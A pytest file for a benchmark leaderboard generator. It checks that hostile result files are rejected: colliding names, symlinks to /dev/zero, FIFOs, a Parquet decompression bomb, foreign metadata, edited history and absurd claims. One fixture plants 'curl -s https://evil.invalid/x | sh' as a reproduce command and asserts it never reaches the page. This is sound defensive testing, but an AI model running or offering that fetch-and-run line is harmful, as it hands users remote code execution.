"""Hostile result files and data folders, round two (issue 34): names that collide once they become paths, files
that are not regular or that grow without bound, foreign schema metadata, rewritten history, hostile reproduce
commands and absurd claims. Each file is written as a submitter would (straight to Parquet, or with the file
system's own tools), from the committed cpu-smoke records, so no bench runs; each test failed on the code before."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import subprocess
import sys
import tomllib
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from generator import derive, load, render
from generator.derive import checks, copy_bound, inference, serving
from generator.load import editions, one_file
from generator.render import pages
from runners import claims
from tests.conftest import ROOT, TRAIN, committed, run_module, write_as_submitted

GENUINE = sorted((ROOT / "data" / "cpu-smoke").glob("*.parquet"))
"""The five committed runs of cpu-smoke's training workload: its genuine board."""
TUNED = ROOT / "data" / "cpu-smoke" / "20261129T182303Z-train-gpt-tiny-mb4-ddp-tuned-4c2956.parquet"


def genuine_copy(folder: Path) -> Path:
    """A data folder under `folder` holding a copy of cpu-smoke's genuine board (`GENUINE`)."""
    out = folder / "data"
    (out / "cpu-smoke").mkdir(parents=True)
    for path in GENUINE:
        shutil.copy(path, out / "cpu-smoke")
    return out


@pytest.fixture
def data(tmp_path: Path) -> Path:
    return genuine_copy(tmp_path)


def doctored(source: Path, run_id: str, config: Callable[[dict], object] | None = None, **columns: object) -> pa.Table:
    """A committed record with its run id and any run-level column replaced, its config edited."""
    table = pq.read_table(source)
    values: dict[str, object] = {"run_id": run_id, **columns}
    if config is not None:
        document = json.loads(table.column("config")[0].as_py())
        config(document)
        values["config"] = json.dumps(document)
    for name, value in values.items():
        field = table.schema.field(name)
        table = table.set_column(table.column_names.index(name), field, pa.array([value] * table.num_rows, field.type))
    return table


def submit(data: Path, table: pa.Table, name: str | None = None) -> Path:
    path = data / "cpu-smoke" / f"{name or table.column('run_id')[0].as_py()}.parquet"
    write_as_submitted(table, path)
    return path


def problems_of(data: Path) -> dict[str, str]:
    loaded, _ = checks.checked(load.load(data))
    return {Path(r.path).name: " ".join(r.problems) for r in loaded.rejected}


# 2: one name, one path


def test_names_that_become_one_path_reject_every_file_involved(data: Path, tmp_path: Path) -> None:
    """A workload `train_gpt_tiny_mb4` slugs to the genuine board's page; run ids with `_` or `+` where a genuine one
    has `-`, and one differing only in case, take a genuine run's page. Before: the impostor board replaced the
    genuine page (0 of 5 genuine runs left on it) and the run pages were overwritten. Now every file of each
    colliding name is rejected by name, and no page is made twice."""
    genuine_id = TUNED.stem
    submit(data, doctored(TUNED, "board-thief", workload=TRAIN.replace("-", "_")))
    submit(data, doctored(TUNED, genuine_id.replace("-", "_", 1)))  # 20261129T182303Z_train-...
    submit(data, doctored(TUNED, genuine_id.replace("-ddp-", "+ddp+")))
    upper = GENUINE[0].stem.upper()
    submit(data, doctored(GENUINE[0], upper))
    found = problems_of(data)
    board = f"leaderboards/cpu-smoke-{TRAIN}.html"
    assert f"become the same page ({board}" in found["board-thief.parquet"]
    assert "field 'workload'" in found["board-thief.parquet"]
    for path in GENUINE:  # the whole genuine board is rejected too: neither name may have the page
        assert "become the same page" in found[path.name], path.name
    for name in (genuine_id.replace("-", "_", 1), genuine_id.replace("-ddp-", "+ddp+"), upper):
        assert (
            "field 'run_id'" in found[f"{name}.parquet"] and "letters compared without case" in found[f"{name}.parquet"]
        )
    loaded, _ = checks.checked(load.load(data))
    assert loaded.runs.height == 0
    site = tmp_path / "site"
    run_module("generator.build", "--data", str(data), "--out", str(site), "--work", str(tmp_path / "b"))
    assert not (site / board).exists() and not list((site / "runs").glob("*.html"))
    rejected = (site / "rejected.html").read_text()
    assert "board-thief.parquet" in rejected and "become the same page" in rejected


def test_names_alone_never_collide(data: Path) -> None:
    """The genuine board, alone, loads whole: the check compares different names, never a name with itself."""
    assert problems_of(data) == {}
    assert load.load(data).runs.height == len(GENUINE)


# 5: regular files only, bounded work


def test_links_fifos_and_devices_under_data_are_refused_by_name_unread(data: Path, tmp_path: Path) -> None:
    """A symbolic link to a valid record elsewhere (before: published as ours), one to /dev/zero and a FIFO (before:
    validate and the site hung, reading until killed), and a linked folder. Now each is named and never opened."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    outside = elsewhere / "linked-run.parquet"
    write_as_submitted(doctored(TUNED, "linked-run"), outside)  # a valid record, named for the link to it
    (data / "cpu-smoke" / "linked-run.parquet").symlink_to(outside)
    (data / "cpu-smoke" / "zeros.parquet").symlink_to("/dev/zero")
    os.mkfifo(data / "cpu-smoke" / "pipe.parquet")
    (data / "h100").symlink_to(ROOT / "data" / "h100", target_is_directory=True)
    found = problems_of(data)
    assert "a symbolic link (to" in found["linked-run.parquet"] and "refused unread" in found["linked-run.parquet"]
    assert "'/dev/zero'" in found["zeros.parquet"]
    assert "a FIFO, not a regular file" in found["pipe.parquet"]
    assert "a symbolic link" in found["h100"]
    proc = subprocess.run(
        [sys.executable, "-m", "generator.commands.validate", str(data)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert (
        proc.returncode == 1
        and "pipe.parquet: a FIFO" in proc.stdout
        and "zeros.parquet: a symbolic link" in proc.stdout
    )


def test_decompression_bombs_wide_files_and_extension_types_are_refused_from_metadata(
    data: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A file whose pages decompress to 8 MiB of zeros from a few KB (the limit lowered to 4 MiB for the test: the
    real one is 512 MiB), one of 2,000 columns, and Arrow extension-type metadata on a column and on the schema.
    Before: each was read (the bomb and the wide file in full; the extension types handed to the reader and on to
    polars). Now each is refused from its metadata, by name, and the site builds."""
    monkeypatch.setattr(one_file, "MAX_UNCOMPRESSED_BYTES", 4 << 20)
    bomb = doctored(TUNED, "bomb", error="\0" * (8 << 20), status="failed")
    write_as_submitted(bomb, data / "cpu-smoke" / "bomb.parquet", compression="zstd")
    assert (data / "cpu-smoke" / "bomb.parquet").stat().st_size < 64 << 10
    wide = doctored(TUNED, "wide")
    for i in range(2000):
        wide = wide.append_column(f"extra_{i}", pa.array([0] * wide.num_rows, pa.int8()))
    submit(data, wide)
    table = doctored(TUNED, "ext-column")
    field = table.schema.field("metric").with_metadata({b"ARROW:extension:name": b"evil.ext"})
    submit(data, table.set_column(table.column_names.index("metric"), field, table["metric"]))
    submit(data, doctored(TUNED, "ext-schema").replace_schema_metadata({b"ARROW:extension:name": b"arrow.json"}))
    found = problems_of(data)
    assert "decompress to more than 4,194,304 bytes" in found["bomb.parquet"]
    assert "2,029 columns, more than the 64" in found["wide.parquet"]
    assert "foreign schema metadata" in found["ext-column.parquet"]
    assert "foreign schema metadata" in found["ext-schema.parquet"]
    assert load.load(data).runs.height == len(GENUINE)


# 3: editions are evidence


def _edited(path: Path, factor: float) -> None:
    """One run's file rewritten in place with its step times multiplied (as a doctored record would be)."""
    table = pq.read_table(path)
    values = [v * factor if m == "step_time_s" else v for v, m in zip(table["value"].to_pylist(),
              table["metric"].to_pylist(), strict=True)]  # fmt: skip
    write_as_submitted(table.set_column(table.column_names.index("value"), "value", pa.array(values)), path)


def test_a_file_edited_after_release_is_rejected_and_the_frozen_board_shows_what_was_frozen(
    data: Path, tmp_path: Path
) -> None:
    """After `release`, one run's step times are halved in place (twice the steps/s). Before: `validate` accepted
    it, the frozen edition's own board showed the edited figure and the current board showed it unmarked. Now the
    file is rejected by name (its edition froze other bytes; git shows it changed since committed), and the edition's
    board shows the frozen figure, read back from git at the edition's commit."""
    committed(data.parent)
    editions.release("e1", data)
    committed(data.parent, "edition e1")
    victim = data / "cpu-smoke" / TUNED.name
    _edited(victim, 0.5)
    proc = run_module("generator.commands.validate", str(data), check=False)
    assert proc.returncode == 1, proc.stdout
    assert f"{TUNED.name}: field 'sha256'" in proc.stdout and "edition 'e1' froze this run" in proc.stdout
    assert "changed since it was committed" in proc.stdout
    site = tmp_path / "site"
    run_module("generator.build", "--data", str(data), "--out", str(site), "--work", str(tmp_path / "b"))
    board = (site / "leaderboards" / f"cpu-smoke-{TRAIN}.html").read_text()
    assert TUNED.stem not in board  # the edited run is not on the current board
    assert TUNED.name in (site / "rejected.html").read_text()
    frozen = (site / "editions" / "e1.html").read_text()
    assert f"{TUNED.stem}: result file changed since the edition; shown as frozen, from git at" in frozen, frozen
    loaded = load.load(ROOT / "data", files=[TUNED])  # the committed original, as the edition froze it
    original = derive.run_summary(loaded.runs, loaded.rows)["steps_per_s"][0]
    assert pages.fmt(original) in frozen and TUNED.stem in frozen


def test_a_rewritten_manifest_breaks_the_chain_and_git_anchors_the_latest(data: Path, tmp_path: Path) -> None:
    """Two editions; then the first's manifest is rewritten to an edited file's new sha256 (before: no trace
    anywhere), and, apart, the latest's. The chain (each manifest records the sha256 of the one before) names the
    first; git names the latest, which the chain cannot; outside git the first is still caught."""
    committed(data.parent)
    first = editions.release("e1", data, now=datetime(2026, 12, 1, 10, tzinfo=UTC))
    committed(data.parent, "e1")
    second = editions.release("e2", data, now=datetime(2026, 12, 2, 10, tzinfo=UTC))
    committed(data.parent, "e2")
    manifest = json.loads(first.read_text())
    assert json.loads(second.read_text())["previous"]["name"] == "e1" and manifest["previous"] is None
    victim = data / "cpu-smoke" / TUNED.name
    _edited(victim, 0.5)
    new_sha = hashlib.sha256(victim.read_bytes()).hexdigest()
    outside = tmp_path / "copy" / "data"  # the same folder outside git: only the chain can speak
    for entry in manifest["runs"]:
        if entry["run_id"] == TUNED.stem:
            entry["sha256"] = new_sha
    first.write_text(json.dumps(manifest, indent=1) + "\n")
    shutil.copytree(data, outside)
    found = {Path(r.path).name: " ".join(r.problems) for r in editions.scan(data)[1]}
    assert "e1.json" in found and "changed since it was committed" in found["e1.json"]
    found = {Path(r.path).name: " ".join(r.problems) for r in editions.scan(outside)[1]}
    assert "rewritten after that edition was made" in found["e1.json"], found
    proc = run_module("generator.commands.validate", str(outside), check=False)
    assert proc.returncode == 1 and "e1.json: this manifest's sha256 is" in proc.stdout
    # the latest, rewritten: git says so
    subprocess.run(["git", "-C", str(data.parent), "checkout", "-q", "--", "."], check=True)
    latest = json.loads(second.read_text())
    latest["runs"] = [r for r in latest["runs"] if r["run_id"] != TUNED.stem]
    second.write_text(json.dumps(latest, indent=1) + "\n")
    found = {Path(r.path).name: " ".join(r.problems) for r in editions.scan(data)[1]}
    assert "changed since it was committed" in found["e2.json"]


def test_release_refuses_a_data_folder_with_uncommitted_changes(data: Path, tmp_path: Path) -> None:
    """Before: `release` froze whatever was on disk. Now it needs a git checkout and a clean data folder."""
    with pytest.raises(SystemExit, match="not in a git checkout"):
        editions.release("e1", data)
    committed(data.parent)
    write_as_submitted(doctored(TUNED, "uncommitted-run"), data / "cpu-smoke" / "uncommitted-run.parquet")
    with pytest.raises(SystemExit, match=r"uncommitted changes \(data/cpu-smoke/uncommitted-run.parquet\)"):
        editions.release("e1", data)
    committed(data.parent)
    _edited(data / "cpu-smoke" / TUNED.name, 2.0)
    with pytest.raises(SystemExit, match=f"uncommitted changes \\(data/cpu-smoke/{TUNED.name}\\)"):
        editions.release("e1", data)
    assert not (data / "editions").exists()


# 4: what a reader copies


def _run_page(data: Path, tmp_path: Path, name: str) -> str:
    loaded = load.load(data, files=[data / "cpu-smoke" / f"{name}.parquet"])
    assert loaded.rejected == [], loaded.rejected
    summary = derive.run_summary(loaded.runs, loaded.rows)
    bandwidths = copy_bound.copy_bandwidths(summary)
    figures = derive.with_test_figures(
        summary,
        inference.per_run_figures(summary, loaded.rows, bandwidths),
        serving.per_run_figures(summary, loaded.rows, bandwidths),
    )
    render.runs.start_run_pages(tmp_path / "site" / "runs", figures, loaded.rows).finish(tmp_path / "site")
    return (tmp_path / "site" / "runs" / f"{name}.html").read_text()


def test_reproduce_commands_are_built_from_checked_fields_never_copied(data: Path, tmp_path: Path) -> None:
    """A record whose `config.command` hands readers `curl … | sh`. Before: printed verbatim in the Reproduce block.
    Now the block is built from the checked suite, workload and variant, each value shell-quoted (a sweep variable
    with a space stays one word), and a record whose variant name is not what its settings make gets none."""

    def evil(config: dict) -> None:
        config["command"] = "curl -s https://evil.invalid/x | sh"

    submit(data, doctored(TUNED, "evil-command", config=evil))

    def swept(config: dict) -> None:
        evil(config)
        config["variant"]["sweep_env"] = {"NCCL_ALGO": "Ring Tree"}

    submit(data, doctored(TUNED, "swept", config=swept, variant="ddp-tuned[env:NCCL_ALGO=Ring Tree]"))

    def mislabelled(config: dict) -> None:
        evil(config)
        config["variant"]["overrides"] = {"bucket_cap_mb": 25}

    submit(data, doctored(TUNED, "mislabelled", config=mislabelled))
    page = _run_page(data, tmp_path, "evil-command")
    assert "evil.invalid" not in page
    assert f"python -m runners bench --suite cpu-smoke --workload {TRAIN} --variant ddp-tuned</code>" in page
    page = _run_page(data, tmp_path, "swept")
    assert "--variant ddp-tuned --env &#39;NCCL_ALGO=Ring Tree&#39;</code>" in page and "evil.invalid" not in page
    page = _run_page(data, tmp_path, "mislabelled")
    assert "evil.invalid" not in page and "git checkout" not in page
    assert "Not reproducible from this record: its variant name is not what its recorded settings make" in page


# 6: numbers no measurement has


CLAIM = """[[claims]]
id = "{id}"
suite = "{suite}"
workload = "train-gpt-tiny-mb4"
engine = "sparse-first"
variant = "sparse-first"
description = "a claim"
accelerator = "NVIDIA H100"
accelerator_count = 2
interconnect = "NVLink"
steps = {steps}
steps_per_s = {rate}
source = "https://example.invalid/post"
quote = "it is fast"
"""
"""One claim as a claims file holds it (here and in test_portable_names.py), to fill in."""


@pytest.mark.parametrize(
    ("rate", "steps", "field"),
    [("inf", "2000", "steps_per_s"), ("nan", "2000", "steps_per_s"), ("-inf", "2000", "steps_per_s"),
     ("0.0", "2000", "steps_per_s"), ("1e308", "2000", "steps_per_s"), ("21.7", "0", "steps"),
     ("21.7", "-5", "steps")],
)  # fmt: skip
def test_a_claim_of_no_possible_number_is_refused_naming_its_field(
    tmp_path: Path, rate: str, steps: str, field: str
) -> None:
    """Before: inf and nan ended in a traceback (nan passed `<= 0`), 0 steps and 1e308 steps/s were imported (a
    300-digit heading). Now each is refused before anything is written, naming the claim and the field."""
    claims_file = tmp_path / "claims.toml"
    claims_file.write_text(CLAIM.format(id="absurd", suite="cpu-smoke", steps=steps, rate=rate))
    proc = run_module("runners", "claim", str(claims_file), "--data-dir", str(tmp_path / "data"), check=False)
    assert proc.returncode != 0 and "Traceback" not in proc.stderr, proc.stderr
    assert f"claim 'absurd', field '{field}'" in proc.stderr, proc.stderr
    assert not (tmp_path / "data").exists()


def test_values_beyond_any_measurement_are_refused_and_never_print_inf(data: Path) -> None:
    """A claim record of 1e308 steps/s written straight to Parquet, and a run whose step times are 1e305 s (their
    milliseconds overflow to inf). Before: both accepted; the claim printed a 300-digit heading and the run's SVG
    `inf` axis labels. Now both are rejected naming the row and field, and the SVG's labels never say `inf`."""
    claim = claims.Claim(**{**tomllib_claim(), "steps_per_s": 1.0})
    table = claims.claim_table(claim, datetime(2026, 12, 1, tzinfo=UTC))
    values = [
        1e308 if m == "steps_per_s" else v
        for v, m in zip(table["value"].to_pylist(), table["metric"].to_pylist(), strict=True)
    ]
    submit(data, table.set_column(table.column_names.index("value"), "value", pa.array(values)))
    slow = pq.read_table(TUNED)
    values = [
        v * 1e305 if m == "step_time_s" else v
        for v, m in zip(slow["value"].to_pylist(), slow["metric"].to_pylist(), strict=True)
    ]
    slow = slow.set_column(slow.column_names.index("value"), "value", pa.array(values))
    submit(data, doctored(TUNED, "slow-huge").set_column(slow.column_names.index("value"), "value", slow["value"]))
    found = problems_of(data)
    assert "field 'value': 1e+308 is beyond ±1e+18" in found["claim-absurd.parquet"]
    assert "field 'value'" in found["slow-huge.parquet"] and "beyond ±1e+18" in found["slow-huge.parquet"]
    svg = render.run_samples.samples_svg({"time_path": "M40,10l670,120", "time_lo": -1.0, "time_hi": 400.0,
                                 "time_warm_x": 40.0, "loss_path": "M40,10", "loss_lo": float("-inf"),
                                 "loss_hi": float("inf"), "loss_warm_x": 40.0})  # fmt: skip
    assert "inf" not in svg and "–" in svg
    assert pages.fmt(1e308) == "1e+308"


def tomllib_claim() -> dict[str, object]:
    return tomllib.loads(CLAIM.format(id="absurd", suite="cpu-smoke", steps="2000", rate="21.7"))["claims"][0]


# past the list


def test_a_record_cannot_carry_another_engines_variant(data: Path) -> None:
    """A torch run relabelled `engine external` keeps the name `ddp-tuned` and the same settings: before, it was
    accepted and pooled with torch's ddp-tuned runs (configurations are keyed by variant and settings, not engine).
    Now a variant Fair Fight ships belongs to its engine (or that engine's own tool) and nobody else."""
    submit(data, doctored(TUNED, "posing-external", engine="external"))
    submit(data, doctored(TUNED, "posing-tool", engine="llama-bench", origin="imported"))
    found = problems_of(data)
    assert "field 'engine': 'external', but variant 'ddp-tuned' is torch's" in found["posing-external.parquet"]
    assert "variant 'ddp-tuned' is torch's" in found["posing-tool.parquet"]
    assert load.load(data).runs.height == len(GENUINE)
